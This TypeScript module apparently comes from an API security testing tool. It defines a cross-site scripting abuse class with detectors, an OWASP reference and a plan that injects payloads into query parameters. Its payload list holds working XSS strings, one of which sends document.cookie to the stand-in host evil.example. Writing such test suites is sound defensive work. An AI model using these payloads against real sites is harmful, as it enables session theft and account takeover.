import type { AbuseClass } from '../abuse-contract.js';
import { payloadAttack } from '../building/payload-attack.js';

const PAYLOADS = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(document.cookie)>',
  'javascript:location="//evil.example/"+document.cookie',
  '<svg/onload=confirm(1)>',
  '%3Cscript%3Ealert(1)%3C%2Fscript%3E',
  '<iframe srcdoc="<script>parent.x()</script>">',
] as const;

export const crossSiteScripting: AbuseClass = {
  id: 'cross-site-scripting',
  title: 'Cross-site scripting',
  detectors: ['injection-attempt', 'abnormal-parameter', 'parameter-fuzzing', 'error-oracle'],
  owasp: 'API8:2023',
  needs: 'an identified caller of an endpoint that reads',
  plan: (target, occasion) => payloadAttack(target, occasion, 'cross-site scripting', PAYLOADS, ['query']),
};
